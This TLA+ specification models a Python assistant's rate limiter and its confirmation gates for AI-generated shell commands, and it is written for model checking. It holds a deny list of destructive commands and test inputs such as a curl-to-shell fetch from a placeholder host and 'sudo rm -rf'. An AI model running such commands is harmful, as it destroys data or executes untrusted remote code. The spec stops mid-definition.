---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of src/assistant.py: the RateLimiter class and the safety-gated   *)
(* pipeline of GPTAssistant (generate, classify, confirm, execute, fix).   *)
(*                                                                         *)
(* Time is counted in ticks, TicksPerSecond ticks to the second, so that   *)
(* instants finer than one second exist (datetime.now() has microsecond    *)
(* resolution).  Command strings are TLA+ strings.                         *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

\* ------------------------------------------------------------------ bounds
TicksPerSecond == 2      \* resolution of the modelled clock
MaxCallsBound == 2       \* max_calls is drawn from 1..MaxCallsBound
MaxWindows == 1          \* the clock runs for MaxWindows windows and one second more

\* ------------------------------------------------------- program constants
SecondsPerMinute == 60   \* timedelta(minutes=...) / total_seconds()
DefaultWindow == 1       \* config.get('rate_limit_window', 1)

VARIABLES
    now,            \* the wall clock read by datetime.now(), in ticks
    calls,          \* RateLimiter.calls
    max_calls,      \* RateLimiter.max_calls
    window_minutes, \* RateLimiter.window_minutes
    history,        \* every timestamp ever appended by record_call
    admitted,       \* the last limiter operation was a can_make_call that returned True
    ret,            \* operation and return value of the last limiter query
    gemini_model,   \* GPTAssistant.gemini_model is set (not None)
    auto_run,       \* config['auto_run']
    confirm_risky,  \* config['confirm_risky']
    auto_fix,       \* config['auto_fix']
    usage,          \* GPTAssistant.usage: total_calls and today's daily_usage entry
    pc,             \* position of handle_gpt_command
    model_idx,      \* position of the model_names loop of _setup_gemini
    command,        \* the local 'command' of handle_gpt_command
    gate,           \* the confirmation branch handle_gpt_command took for 'command'
    stderr,         \* the local 'stderr' of handle_gpt_command
    fixed_command,  \* the local 'fixed_command' ("" stands for None)
    outcome,        \* how the current run of handle_gpt_command ended
    trace           \* what the run of handle_gpt_command did so far, in order

limiterVars == <<now, calls, max_calls, window_minutes, history, admitted, ret>>

configVars == <<auto_run, confirm_risky, auto_fix>>

assistantVars == <<gemini_model, auto_run, confirm_risky, auto_fix, usage,
                   pc, model_idx, command, gate, stderr, fixed_command, outcome, trace>>

vars == <<now, calls, max_calls, window_minutes, history, admitted, ret,
          gemini_model, auto_run, confirm_risky, auto_fix, usage,
          pc, model_idx, command, gate, stderr, fixed_command, outcome, trace>>

\* ------------------------------------------------------------- RateLimiter
\* timedelta(minutes=window_minutes), in ticks
WindowTicks(wm) == wm * SecondsPerMinute * TicksPerSecond

\* int(timedelta.total_seconds()): truncation toward zero of a tick count
IntSeconds(t) == IF t >= 0 THEN t \div TicksPerSecond
                           ELSE 0 - ((0 - t) \div TicksPerSecond)

\* min(self.calls)
MinOf(cs) == CHOOSE m \in {cs[i] : i \in DOMAIN cs} : \A i \in DOMAIN cs : m <= cs[i]

\* [call_time for call_time in self.calls if call_time > cutoff]
KeepRecent(cs, t, wm) == SelectSeq(cs, LAMBDA call_time : call_time > t - WindowTicks(wm))

\* can_make_call comparing with <= : one call too many is admitted
can_make_call_off_by_one(cs, mc, wm, t) ==
    LET kept == SelectSeq(cs, LAMBDA call_time : call_time > t - WindowTicks(wm))
    IN  [calls |-> kept, result |-> Len(kept) <= mc]

\* can_make_call that never refuses
can_make_call_always(cs, mc, wm, t) ==
    LET kept == SelectSeq(cs, LAMBDA call_time : call_time > t - WindowTicks(wm))
    IN  [calls |-> kept, result |-> TRUE]

\* RateLimiter.can_make_call at clock reading t: the pruned list and the result
can_make_call(cs, mc, wm, t) ==
    LET kept == KeepRecent(cs, t, wm)
    IN  [calls |-> kept, result |-> Len(kept) < mc]

\* record_call that starts the list anew
record_call_replaces(cs, t) == <<t>>

\* record_call that appends nothing
record_call_skipped(cs, t) == cs

\* RateLimiter.record_call at clock reading t
record_call(cs, t) == Append(cs, t)

\* RateLimiter.time_until_next_call: t1 is the clock read inside can_make_call,
\* t2 the clock read by the final datetime.now()
time_until_next_call(cs, mc, wm, t1, t2) ==
    LET c == can_make_call(cs, mc, wm, t1)
    IN  IF c.result
        THEN [calls |-> c.calls, result |-> 0]
        ELSE LET oldest_call == MinOf(c.calls)
                 next_available == oldest_call + WindowTicks(wm)
             IN  [calls |-> c.calls, result |-> IntSeconds(next_available - t2)]

\* RateLimiter.__init__
InitLimiter ==
    /\ now = 0
    /\ calls = <<>>
    /\ max_calls \in 1..MaxCallsBound
    /\ window_minutes = DefaultWindow
    /\ history = <<>>
    /\ admitted = FALSE
    /\ ret = [op |-> "none", value |-> 0]

\* the last clock reading modelled
MaxTime == MaxWindows * WindowTicks(DefaultWindow) + TicksPerSecond

\* the clock readings modelled: around every multiple of the window, the
\* instant one tick before it, the instant itself, one tick and one second after
Instants(wm) ==
    {t \in {k * WindowTicks(wm) + j : k \in 0..((MaxTime \div WindowTicks(wm)) + 1),
                                     j \in {0 - 1, 0, 1, TicksPerSecond}} :
        t >= 0 /\ t <= MaxTime}

\* the clock readings of a run of handle_gpt_command: the multiples of the window
RunInstants(wm) == {k * WindowTicks(wm) : k \in 0..(MaxTime \div WindowTicks(wm))}

\* the clock advances during handle_gpt_command.  The clock is read only by
\* the steps that consult the rate limiter, so an advance anywhere else is
\* the same as an advance right before one of them.  Before the first record
\* is appended the limiter is empty and only differences of clock readings
\* matter, so the run starts at instant 0.
Tick ==
    /\ pc \in {"Setup", "Generating", "Failed"}
    /\ history # <<>>
    /\ \E t \in RunInstants(window_minutes) :
          /\ t > now
          /\ now' = t
    /\ UNCHANGED <<calls, max_calls, window_minutes, history, admitted, ret>>
    /\ UNCHANGED assistantVars

\* the clock advances between two calls of the limiter
LimTick ==
    /\ \E t \in Instants(window_minutes) :
          /\ t > now
          /\ now' = t
    /\ UNCHANGED <<calls, max_calls, window_minutes, history, admitted, ret>>
    /\ UNCHANGED assistantVars

\* a caller invokes can_make_call()
LimCanMakeCall ==
    LET c == can_make_call(calls, max_calls, window_minutes, now)
    IN  /\ calls' = c.calls
        /\ admitted' = c.result
        /\ ret' = [op |-> "can_make_call", value |-> c.result]
        /\ UNCHANGED <<now, max_calls, window_minutes, history>>
        /\ UNCHANGED assistantVars

\* a caller invokes record_call(), right after can_make_call() returned True
LimRecordCall ==
    /\ admitted
    /\ calls' = record_call(calls, now)
    /\ history' = Append(history, now)
    /\ admitted' = FALSE
    /\ ret' = [op |-> "record_call", value |-> now]
    /\ UNCHANGED <<now, max_calls, window_minutes>>
    /\ UNCHANGED assistantVars

\* a caller invokes time_until_next_call(); the clock may advance by d ticks
\* between the two datetime.now() reads
LimTimeUntilNextCall ==
    \E d \in {0, 1, TicksPerSecond, TicksPerSecond + 1} :
        LET r == time_until_next_call(calls, max_calls, window_minutes, now, now + d)
        IN  /\ now + d \in Instants(window_minutes)
            /\ now' = now + d
            /\ calls' = r.calls
            /\ admitted' = FALSE
            /\ ret' = [op |-> "time_until_next_call", value |-> r.result]
            /\ UNCHANGED <<max_calls, window_minutes, history>>
            /\ UNCHANGED assistantVars

\* GPTAssistant.__init__ with the policy the configuration holds when the
\* command is classified (any three booleans)
InitAssistant ==
    /\ gemini_model = FALSE
    /\ auto_run \in BOOLEAN
    /\ confirm_risky \in BOOLEAN
    /\ auto_fix \in BOOLEAN
    /\ usage = [total_calls |-> 0, today |-> 0]
    /\ pc = "Idle"
    /\ model_idx = 1
    /\ command = ""
    /\ gate = ""
    /\ stderr = ""
    /\ fixed_command = ""
    /\ outcome = "none"
    /\ trace = <<>>

Init == InitLimiter /\ InitAssistant

\* a RateLimiter used on its own, by a caller that keeps to its protocol
InitLimiterOnly ==
    /\ Init
    /\ auto_run = FALSE
    /\ confirm_risky = TRUE
    /\ auto_fix = TRUE

NextLimiter == LimTick \/ LimCanMakeCall \/ LimRecordCall \/ LimTimeUntilNextCall

SpecLimiter == InitLimiterOnly /\ [][NextLimiter]_vars

\* ------------------------------------------------------------ str methods
UpperLetters == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LowerLetters == "abcdefghijklmnopqrstuvwxyz"

\* the characters str.strip() removes and the regular expression \s matches
Whitespace == {" ", "\t", "\n", "\r", "\f"}

\* the i-th character of s, as a string of length one
CharAt(s, i) == SubSeq(s, i, i)

\* str.lower() of one character
LowerChar(c) ==
    IF \E i \in 1..26 : CharAt(UpperLetters, i) = c
    THEN CharAt(LowerLetters, CHOOSE i \in 1..26 : CharAt(UpperLetters, i) = c)
    ELSE c

\* str.lower()
RECURSIVE Lower(_)
Lower(s) == IF s = "" THEN "" ELSE LowerChar(CharAt(s, 1)) \o Lower(Tail(s))

\* str.lstrip()
RECURSIVE LStrip(_)
LStrip(s) == IF s # "" /\ CharAt(s, 1) \in Whitespace THEN LStrip(Tail(s)) ELSE s

\* str.rstrip()
RECURSIVE RStrip(_)
RStrip(s) ==
    IF s # "" /\ CharAt(s, Len(s)) \in Whitespace
    THEN RStrip(SubSeq(s, 1, Len(s) - 1))
    ELSE s

\* str.strip()
Strip(s) == RStrip(LStrip(s))

\* s.startswith(prefix)
StartsWith(s, prefix) == Len(prefix) <= Len(s) /\ SubSeq(s, 1, Len(prefix)) = prefix

\* s.endswith(suffix)
EndsWith(s, suffix) ==
    Len(suffix) <= Len(s) /\ SubSeq(s, Len(s) - Len(suffix) + 1, Len(s)) = suffix

\* sub in s
Contains(s, sub) ==
    \E i \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, i, i + Len(sub) - 1) = sub

\* --------------------------------------------------------- risk patterns
\* self.dangerous_commands
dangerous_commands == <<
    "rm -rf", "del /f", "format", "fdisk", "mkfs", "dd if=", "shutdown",
    "reboot", "halt", "poweroff", "init 0", "init 6", "systemctl poweroff",
    "systemctl reboot", "chmod 777", "chown root", "sudo rm", "sudo dd",
    "curl.*|.*sh", "wget.*|.*sh", ":(){ :|:& };:", "sudo chmod -R 777",
    "sudo chown -R", "rm -r /", "del C:\\", "rmdir /s", "takeown /f",
    "icacls.*grant.*full", "net user.*add", "useradd", "userdel",
    "passwd", "su -", "sudo su", "pkill -9", "killall -9" >>

\* the pieces a regular expression of this program is made of: a literal
\* text, \s+ and .*
Lit(text) == [t |-> "lit", s |-> text]
WS == [t |-> "ws+", s |-> ""]
ANY == [t |-> "any*", s |-> ""]

\* self.risky_commands
risky_commands == <<
    <<Lit("sudo"), WS>>, <<Lit("rm"), WS>>, <<Lit("del"), WS>>, <<Lit("move"), WS>>,
    <<Lit("mv"), WS>>,
    <<Lit("cp"), WS, ANY, WS, Lit("/")>>, <<Lit("copy"), WS, ANY, WS, Lit("\\")>>,
    <<Lit("chmod"), WS>>, <<Lit("chown"), WS>>,
    <<Lit("git"), WS, Lit("reset"), WS, Lit("--hard")>>,
    <<Lit("git"), WS, Lit("clean"), WS, Lit("-fd")>>,
    <<Lit("npm"), WS, Lit("install"), WS, Lit("-g")>>,
    <<Lit("pip"), WS, Lit("install"), WS>>, <<Lit("apt"), WS, Lit("install")>>,
    <<Lit("yum"), WS, Lit("install")>>,
    <<Lit("systemctl"), WS>>, <<Lit("service"), WS>>, <<Lit("crontab"), WS>>,
    <<Lit("mount"), WS>>, <<Lit("umount"), WS>>, <<Lit("fdisk"), WS>>,
    <<Lit("parted"), WS>> >>

\* every character of s[i..j-1] is in (inside = TRUE) or outside the set cs
AllChars(s, i, j, cs, inside) ==
    \A k \in i..(j - 1) : (CharAt(s, k) \in cs) = inside

\* the pieces k.. of the pattern match a stretch of s that starts at position i
\* (re.IGNORECASE: literals compare in lower case; '.' matches all but newline)
RECURSIVE MatchAt(_, _, _, _)
MatchAt(pattern, k, s, i) ==
    IF k > Len(pattern) THEN TRUE
    ELSE LET piece == pattern[k]
         IN  CASE piece.t = "lit" ->
                    /\ i + Len(piece.s) - 1 <= Len(s)
                    /\ Lower(SubSeq(s, i, i + Len(piece.s) - 1)) = Lower(piece.s)
                    /\ MatchAt(pattern, k + 1, s, i + Len(piece.s))
               [] piece.t = "ws+" ->
                    \E j \in (i + 1)..(Len(s) + 1) :
                        /\ AllChars(s, i, j, Whitespace, TRUE)
                        /\ MatchAt(pattern, k + 1, s, j)
               [] piece.t = "any*" ->
                    \E j \in i..(Len(s) + 1) :
                        /\ AllChars(s, i, j, {"\n"}, FALSE)
                        /\ MatchAt(pattern, k + 1, s, j)

\* re.search(pattern, s, re.IGNORECASE) finds a match
ReSearch(pattern, s) == \E i \in 1..(Len(s) + 1) : MatchAt(pattern, 1, s, i)

\* GPTAssistant._is_dangerous_command
_is_dangerous_command(cmd) ==
    LET command_lower == Lower(cmd)
    IN  \E d \in DOMAIN dangerous_commands : Contains(command_lower, dangerous_commands[d])

\* GPTAssistant._is_risky_command
_is_risky_command(cmd) ==
    \E r \in DOMAIN risky_commands : ReSearch(risky_commands[r], cmd)

\* ------------------------------------------------------- bounded inputs
\* The grave accent cannot be written in a TLA+ string: "^" stands for it in
\* every string of this module, so "^^^" is a code fence.

\* texts the backend returns to the handshake of _setup_gemini
HandshakeTexts == {"OK", "Hi"}

\* texts the backend returns to the prompt of _generate_command
GenerateTexts ==
    {"ls -la", "^^^bash\nsudo rm -rf /tmp/x\n^^^", "git reset --hard HEAD~1",
     "curl http://x/i.sh | sh", "sudo chown -R u /d", "", "^^^",
     "Command: $ ls"}

\* texts the backend returns to the prompt of _attempt_fix_command for cmd:
\* a different command, a dangerous one, a fenced one, nothing, or cmd again
OtherFixTexts == {"ls -l", "sudo rm -rf /tmp/y", "^^^bash\nls -l\n^^^", ""}
FixTexts(cmd) == OtherFixTexts \cup {cmd}

\* what generate_content does: it returns a response with a text, or raises
Returned(text) == [raises |-> FALSE, text |-> text]
Raised == [raises |-> TRUE, text |-> ""]
BackendResults(texts) == {Returned(t) : t \in texts} \cup {Raised}

\* what the user types at a prompt
Answers == {"Yes", " yes", "y", " Y", "n"}

\* what subprocess.run does with a command: it returns with an exit status,
\* the timeout expires, or the command cannot be started
ProcessResults ==
    { [kind |-> "exit", returncode |-> 0, stdout |-> "out", stderr |-> ""],
      [kind |-> "exit", returncode |-> 1, stdout |-> "", stderr |-> "No such file"],
      [kind |-> "timeout", returncode |-> 0, stdout |-> "", stderr |-> ""],
      [kind |-> "oserror", returncode |-> 0, stdout |-> "", stderr |-> "Exec format error"] }

ModelNames == 3          \* len(model_names) in _setup_gemini

\* ----------------------------------------------------------- GPTAssistant
\* _record_api_call that leaves daily_usage alone
_record_api_call_total_only(u) == [total_calls |-> u.total_calls + 1, today |-> u.today]

\* GPTAssistant._record_api_call (the clock stays within one calendar day)
_record_api_call(u) == [total_calls |-> u.total_calls + 1, today |-> u.today + 1]

prefixes_to_remove == <<"^^^bash", "^^^sh", "^^^", "$", "> ", "Command:", "command:">>

\* the loop over prefixes_to_remove of _generate_command, from prefix k on
RECURSIVE RemovePrefixes(_, _)
RemovePrefixes(cmd, k) ==
    IF k > Len(prefixes_to_remove) THEN cmd
    ELSE LET prefix == prefixes_to_remove[k]
         IN  IF StartsWith(cmd, prefix)
             THEN RemovePrefixes(Strip(SubSeq(cmd, Len(prefix) + 1, Len(cmd))), k + 1)
             ELSE RemovePrefixes(cmd, k + 1)

\* the extraction of the command from response.text in _generate_command
Normalize(text) ==
    LET stripped == RemovePrefixes(Strip(text), 1)
    IN  IF EndsWith(stripped, "^^^")
        THEN Strip(SubSeq(stripped, 1, Len(stripped) - 3))
        ELSE stripped

\* the value _attempt_fix_command returns for response.text ("" stands for None)
FixResult(text) == IF text # "" THEN Strip(text) ELSE ""

\* _execute_command that reports a timeout without an error text
_execute_command_timeout_silent(r) ==
    CASE r.kind = "exit" ->
            [success |-> r.returncode = 0, stdout |-> r.stdout, stderr |-> r.stderr]
      [] r.kind = "timeout" ->
            [success |-> FALSE, stdout |-> "", stderr |-> ""]
      [] r.kind = "oserror" ->
            [success |-> FALSE, stdout |-> "", stderr |-> r.stderr]

\* GPTAssistant._execute_command
_execute_command(r) ==
    CASE r.kind = "exit" ->
            [success |-> r.returncode = 0, stdout |-> r.stdout, stderr |-> r.stderr]
      [] r.kind = "timeout" ->
            [success |-> FALSE, stdout |-> "", stderr |-> "Command timed out after 30 seconds"]
      [] r.kind = "oserror" ->
            [success |-> FALSE, stdout |-> "", stderr |-> r.stderr]

\* the command strings of the bounded inputs
Commands ==
    {Normalize(t) : t \in GenerateTexts} \cup {FixResult(t) : t \in OtherFixTexts}

\* _is_dangerous_command and _is_risky_command, evaluated once for every command
IsDangerous == [cmd \in Commands |-> _is_dangerous_command(cmd)]
IsRisky == [cmd \in Commands |-> _is_risky_command(cmd)]

\* the risky test comes first in the chain
GateFor_risky_first(cmd, autorun, confirmrisky) ==
    IF IsRisky[cmd] /\ confirmrisky THEN "risky_yn"
    ELSE IF IsDangerous[cmd] THEN "typed_yes"
    ELSE IF ~autorun THEN "autorun_yn"
    ELSE "none"

\* auto_run is tested before the risky patterns
GateFor_autorun_first(cmd, autorun, confirmrisky) ==
    IF IsDangerous[cmd] THEN "typed_yes"
    ELSE IF autorun THEN "none"
    ELSE IF IsRisky[cmd] /\ confirmrisky THEN "risky_yn"
    ELSE "autorun_yn"

\* the auto_run test is inverted
GateFor_autorun_inverted(cmd, autorun, confirmrisky) ==
    IF IsDangerous[cmd] THEN "typed_yes"
    ELSE IF IsRisky[cmd] /\ confirmrisky THEN "risky_yn"
    ELSE IF autorun THEN "autorun_yn"
    ELSE "none"

\* the branch of the if/elif chain of handle_gpt_command taken for cmd:
\* which prompt, if any, stands between the command and its execution
GateFor(cmd, autorun, confirmrisky) ==
    IF IsDangerous[cmd] THEN "typed_yes"
    ELSE IF IsRisky[cmd] /\ confirmrisky THEN "risky_yn"
    ELSE IF ~autorun THEN "autorun_yn"
    ELSE "none"

\* a fix is attempted after every failure, whatever auto_fix says
AfterExecute_always_fix(success, autofix) ==
    IF success THEN [pc |-> "Done", outcome |-> "success"]
    ELSE [pc |-> "Failed", outcome |-> "none"]

\* after a failure with auto_fix off handle_gpt_command does not return
AfterExecute_no_return(success, autofix) ==
    IF success THEN [pc |-> "Done", outcome |-> "success"]
    ELSE IF autofix THEN [pc |-> "Failed", outcome |-> "none"]
    ELSE [pc |-> "Executed", outcome |-> "none"]

\* what handle_gpt_command does with the result of the first execution
AfterExecute(success, autofix) ==
    IF success THEN [pc |-> "Done", outcome |-> "success"]
    ELSE IF autofix THEN [pc |-> "Failed", outcome |-> "none"]
    ELSE [pc |-> "Done", outcome |-> "failed"]

\* 'if not command' is missing: whatever was generated goes on to the gate
AfterGenerate_unchecked(generated) == [pc |-> "Classifying", outcome |-> "none"]

\* what handle_gpt_command does with the value _generate_command returned
\* ("" stands for None as well as for the empty string: both are falsy)
AfterGenerate(generated) ==
    IF generated = "" THEN [pc |-> "Done", outcome |-> "generation_failure"]
    ELSE [pc |-> "Classifying", outcome |-> "none"]

\* the proposal is not compared with the command that failed
FixAccepted_any(fixed, cmd) == fixed # ""

\* the value _attempt_fix_command returned is not tested at all
FixAccepted_always(fixed, cmd) == TRUE

\* 'fixed_command and fixed_command != command' in handle_gpt_command
FixAccepted(fixed, cmd) == fixed # "" /\ fixed # cmd

\* every prompt takes a plain y
Accepts_plain_y(kind, answer) == Lower(Strip(answer)) = "y"

\* the fix prompt takes anything but n (as the prompts with a default do)
Accepts_fix_unless_n(kind, answer) ==
    IF kind = "typed_yes" THEN Lower(answer) = "yes"
    ELSE IF kind = "fix_yn" THEN Lower(Strip(answer)) # "n"
    ELSE Lower(Strip(answer)) = "y"

\* the test handle_gpt_command applies to the answer typed at a prompt
Accepts(kind, answer) ==
    IF kind = "typed_yes" THEN Lower(answer) = "yes"
    ELSE Lower(Strip(answer)) = "y"

\* one entry of the trace
Event(ev, arg, text, ok) == [ev |-> ev, arg |-> arg, text |-> text, ok |-> ok]

\* handle_gpt_command returns
Return(o) == pc' = "Done" /\ outcome' = o

\* main() calls handle_gpt_command on the assistant it constructed
StartRequest ==
    /\ pc = "Idle"
    /\ pc' = IF gemini_model THEN "Generating" ELSE "Setup"
    /\ model_idx' = 1
    /\ command' = ""
    /\ gate' = ""
    /\ stderr' = ""
    /\ fixed_command' = ""
    /\ outcome' = "none"
    /\ trace' = <<>>
    /\ UNCHANGED <<limiterVars, configVars, gemini_model, usage>>

\* _setup_gemini finds no API key: _generate_command returns None
SetupNoKey ==
    /\ pc = "Setup"
    /\ model_idx = 1
    /\ Return("generation_failure")
    /\ UNCHANGED <<limiterVars, configVars, gemini_model, usage,
                   model_idx, command, gate, stderr, fixed_command, trace>>

\* _setup_gemini tries the next model name: the handshake call.  The
\* constructor genai.GenerativeModel(model_name) is taken to return, so
\* gemini_model is set from the first attempt on.
SetupTryModel ==
    /\ pc = "Setup"
    /\ gemini_model' = TRUE
    /\ LET c == can_make_call(calls, max_calls, window_minutes, now)
           chk == Event("can_make_call", "handshake", "", c.result)
       IN  IF ~c.result
           THEN /\ calls' = c.calls
                /\ ret' = [op |-> "time_until_next_call",
                           value |-> time_until_next_call(c.calls, max_calls,
                                                          window_minutes, now, now).result]
                /\ admitted' = FALSE
                /\ trace' = trace \o <<chk>>
                /\ Return("rate_limited")
                /\ UNCHANGED <<history, usage, model_idx>>
           ELSE /\ calls' = record_call(c.calls, now)
                /\ history' = Append(history, now)
                /\ admitted' = FALSE
                /\ \E resp \in BackendResults(HandshakeTexts) :
                      LET connected == ~resp.raises /\ resp.text # "" /\ Contains(resp.text, "OK")
                          evs == <<chk, Event("record_call", "handshake", "", TRUE),
                                   Event("backend", "handshake", resp.text, ~resp.raises)>>
                                 \o (IF ~resp.raises
                                     THEN <<Event("usage", "handshake", "", TRUE)>>
                                     ELSE <<>>)
                      IN  /\ trace' = trace \o evs
                          /\ usage' = IF ~resp.raises THEN _record_api_call(usage) ELSE usage
                          /\ IF connected
                             THEN /\ pc' = "Generating"
                                  /\ UNCHANGED <<model_idx, outcome>>
                             ELSE IF model_idx < ModelNames
                             THEN /\ model_idx' = model_idx + 1
                                  /\ UNCHANGED <<pc, outcome>>
                             ELSE /\ Return("generation_failure")
                                  /\ UNCHANGED model_idx
                /\ UNCHANGED ret
    /\ UNCHANGED <<now, max_calls, window_minutes, configVars,
                   command, gate, stderr, fixed_command>>

\* _generate_command from its rate-limit check on, and the test of its
\* result in handle_gpt_command
GenerateCommand ==
    /\ pc = "Generating"
    /\ LET c == can_make_call(calls, max_calls, window_minutes, now)
           chk == Event("can_make_call", "generate", "", c.result)
       IN  IF ~c.result
           THEN /\ calls' = c.calls
                /\ ret' = [op |-> "time_until_next_call",
                           value |-> time_until_next_call(c.calls, max_calls,
                                                          window_minutes, now, now).result]
                /\ admitted' = FALSE
                /\ trace' = trace \o <<chk>>
                /\ Return("rate_limited")
                /\ UNCHANGED <<history, usage, command>>
           ELSE /\ calls' = record_call(c.calls, now)
                /\ history' = Append(history, now)
                /\ admitted' = FALSE
                /\ \E resp \in BackendResults(GenerateTexts) :
                      LET generated == IF resp.raises \/ resp.text = "" THEN ""
                                       ELSE Normalize(resp.text)
                          evs == <<chk, Event("record_call", "generate", "", TRUE),
                                   Event("backend", "generate", resp.text, ~resp.raises)>>
                                 \o (IF ~resp.raises
                                     THEN <<Event("usage", "generate", "", TRUE)>>
                                     ELSE <<>>)
                      IN  /\ trace' = trace \o evs
                          /\ usage' = IF ~resp.raises THEN _record_api_call(usage) ELSE usage
                          /\ command' = generated
                          /\ pc' = AfterGenerate(generated).pc
                          /\ outcome' = AfterGenerate(generated).outcome
                /\ UNCHANGED ret
    /\ UNCHANGED <<now, max_calls, window_minutes, configVars, gemini_model,
                   model_idx, gate, stderr, fixed_command>>

\* the safety checks of handle_gpt_command choose the confirmation branch
Classify ==
    /\ pc = "Classifying"
    /\ gate' = GateFor(command, auto_run, confirm_risky)
    /\ pc' = IF gate' = "none" THEN "Executing" ELSE "AwaitingConfirmation"
    /\ UNCHANGED <<limiterVars, configVars, gemini_model, usage,
                   model_idx, command, stderr, fixed_command, outcome, trace>>

\* the user answers the prompt of the branch taken
Confirm ==
    /\ pc = "AwaitingConfirmation"
    /\ \E answer \in Answers :
          LET ok == Accepts(gate, answer)
          IN  /\ trace' = Append(trace, Event("prompt", gate, answer, ok))
              /\ IF ok
                 THEN pc' = "Executing" /\ UNCHANGED outcome
                 ELSE Return("cancelled")
    /\ UNCHANGED <<limiterVars, configVars, gemini_model, usage,
                   model_idx, command, gate, stderr, fixed_command>>

\* the command is executed; on failure auto_fix decides what follows
Execute ==
    /\ pc = "Executing"
    /\ \E r \in ProcessResults :
          LET res == _execute_command(r)
          IN  /\ trace' = Append(trace, Event("execute", "first", command, res.success))
              /\ stderr' = res.stderr
              /\ pc' = AfterExecute(res.success, auto_fix).pc
              /\ outcome' = AfterExecute(res.success, auto_fix).outcome
    /\ UNCHANGED <<limiterVars, configVars, gemini_model, usage,
                   model_idx, command, gate, fixed_command>>

\* _attempt_fix_command(command, stderr) and the test of its result
AttemptFix ==
    /\ pc = "Failed"
    /\ LET c == can_make_call(calls, max_calls, window_minutes, now)
           att == Event("fix_attempt", stderr, command, TRUE)
           chk == Event("can_make_call", "fix", "", c.result)
       IN  IF ~gemini_model
           THEN /\ trace' = Append(trace, att)
                /\ Return("failed")
                /\ UNCHANGED <<calls, history, admitted, usage, fixed_command>>
           ELSE IF ~c.result
           THEN /\ calls' = c.calls
                /\ admitted' = FALSE
                /\ trace' = trace \o <<att, chk>>
                /\ Return("failed")
                /\ UNCHANGED <<history, usage, fixed_command>>
           ELSE /\ calls' = record_call(c.calls, now)
                /\ history' = Append(history, now)
                /\ admitted' = FALSE
                /\ \E resp \in BackendResults(FixTexts(command)) :
                      LET fixed == IF resp.raises THEN "" ELSE FixResult(resp.text)
                          evs == <<att, chk, Event("record_call", "fix", "", TRUE),
                                   Event("backend", "fix", resp.text, ~resp.raises)>>
                                 \o (IF ~resp.raises
                                     THEN <<Event("usage", "fix", "", TRUE)>>
                                     ELSE <<>>)
                      IN  /\ trace' = trace \o evs
                          /\ usage' = IF ~resp.raises THEN _record_api_call(usage) ELSE usage
                          /\ fixed_command' = fixed
                          /\ IF FixAccepted(fixed, command)
                             THEN pc' = "AwaitingConfirmation2" /\ UNCHANGED outcome
                             ELSE Return("failed")
    /\ UNCHANGED <<now, max_calls, window_minutes, ret, configVars, gemini_model,
                   model_idx, command, gate, stderr>>

\* the user answers "Try the fixed command? (y/n)"
ConfirmFix ==
    /\ pc = "AwaitingConfirmation2"
    /\ \E answer \in Answers :
          LET ok == Accepts("fix_yn", answer)
          IN  /\ trace' = Append(trace, Event("prompt", "fix_yn", answer, ok))
              /\ IF ok
                 THEN pc' = "Executing2" /\ UNCHANGED outcome
                 ELSE Return("failed")
    /\ UNCHANGED <<limiterVars, configVars, gemini_model, usage,
                   model_idx, command, gate, stderr, fixed_command>>

\* the fixed command is executed
ExecuteFix ==
    /\ pc = "Executing2"
    /\ \E r \in ProcessResults :
          LET res == _execute_command(r)
          IN  /\ trace' = Append(trace, Event("execute", "second", fixed_command, res.success))
              /\ stderr' = res.stderr
              /\ Return(IF res.success THEN "success" ELSE "failed")
    /\ UNCHANGED <<limiterVars, configVars, gemini_model, usage,
                   model_idx, command, gate, fixed_command>>

Next ==
    \/ Tick
    \/ StartRequest
    \/ SetupNoKey
    \/ SetupTryModel
    \/ GenerateCommand
    \/ Classify
    \/ Confirm
    \/ Execute
    \/ AttemptFix
    \/ ConfirmFix
    \/ ExecuteFix

Spec == Init /\ [][Next]_vars

\* the steps of handle_gpt_command: every step but the passing of time
RunStep ==
    \/ StartRequest
    \/ SetupNoKey
    \/ SetupTryModel
    \/ GenerateCommand
    \/ Classify
    \/ Confirm
    \/ Execute
    \/ AttemptFix
    \/ ConfirmFix
    \/ ExecuteFix

\* handle_gpt_command runs on one thread, statement after statement: when
\* every backend call, prompt and subprocess returns, its next step is taken
SpecLive == Init /\ [][Next]_vars /\ WF_vars(RunStep)

\* ------------------------------------------------------------------ claims
\* number of recorded calls whose timestamp lies in (t - window, t]
InWindow(t) ==
    Cardinality({i \in DOMAIN history :
                    /\ history[i] > t - WindowTicks(window_minutes)
                    /\ history[i] <= t})

\* C1: when record_call is invoked only right after can_make_call returned
\* True, at every instant the number of recorded calls with timestamp in
\* (now - window_minutes, now] is at most max_calls.
C1_SlidingWindow == InWindow(now) <= max_calls

\* max_calls calls lie in the window, after an earlier call has left it
C1_Witness ==
    /\ InWindow(now) = max_calls
    /\ Len(history) > max_calls

\* positions of the trace that hold an event of the given kind
Idx(ev) == {i \in DOMAIN trace : trace[i].ev = ev}

\* positions of the trace at which the generated / the fixed command was executed
FirstExec == {i \in Idx("execute") : trace[i].arg = "first"}
SecondExec == {i \in Idx("execute") : trace[i].arg = "second"}

\* positions of the trace at which the prompt of the first gate was answered
GatePrompts == {j \in Idx("prompt") : trace[j].arg # "fix_yn"}

\* the answers that are the word yes, in any letter case
YesAnswers == {a \in Answers : Lower(a) = "yes"}

\* the answers that are the letter y, in any letter case and with blanks around it
YAnswers == {a \in Answers : Lower(Strip(a)) = "y"}

\* the answer is the word, in any letter case
TypedYes(answer) == answer \in YesAnswers

\* the answer is the letter y, in any letter case and with blanks around it
AnsweredY(answer) == answer \in YAnswers

\* the run ended as cancelled, without an execution and without a fix attempt
EndedCancelled ==
    /\ pc = "Done"
    /\ outcome = "cancelled"
    /\ Idx("execute") = {}
    /\ Idx("fix_attempt") = {}

\* C2: a generated command classified Dangerous is executed only after the
\* user typed yes (in any letter case) at the typed confirmation prompt,
\* whatever auto_run, confirm_risky and auto_fix are; any other answer ends
\* the run as cancelled, the command never executed and no fix attempted.
C2_DangerousNeedsTypedYes ==
    IsDangerous[command] =>
        /\ \A i \in FirstExec :
              \E j \in 1..(i - 1) :
                  /\ trace[j].ev = "prompt"
                  /\ trace[j].arg = "typed_yes"
                  /\ TypedYes(trace[j].text)
        /\ \A j \in GatePrompts : ~TypedYes(trace[j].text) => EndedCancelled

\* a Dangerous command was executed although auto_run allows unprompted execution
C2_Witness ==
    /\ IsDangerous[command]
